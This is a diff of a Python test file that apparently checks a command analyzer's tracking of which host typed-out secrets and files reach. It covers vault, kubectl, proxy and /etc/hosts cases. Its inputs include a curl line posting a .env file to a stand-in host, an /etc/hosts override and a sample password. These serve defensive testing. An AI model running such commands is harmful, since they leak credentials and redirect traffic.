@@ -36,3 +36,11 @@ def test_what_earlier_calls_said():
     named = read("echo '203.0.113.6 b.example' >> /etc/hosts").remotes
     assert named == {"host:b.example": "203.0.113.6"}
     assert to("curl -d @.env https://b.example", named) == ["https://b.example", "203.0.113.6"]
+
+
+@pytest.mark.parametrize(("command", "sent"), [
+    ("VAULT_ADDR=https://a.example vault kv put x password=Hill-91-Lamp", ["https://a.example"]),
+    ("A_SERVER=https://a.example kubectl get pods -l app=web", []), ("A_URL=https://a.example node run.js", []),
+    ("vault kv put x password=Hill-91-Lamp", []), ("https_proxy=a.example:1 vault kv put x password=Hill-91-Lamp", [])])
+def test_a_value_that_is_typed_out_goes_where_the_program_is_aimed(command, sent):
+    assert [e.destination for e in read(command).effects if "91" in e.payload.text] == sent
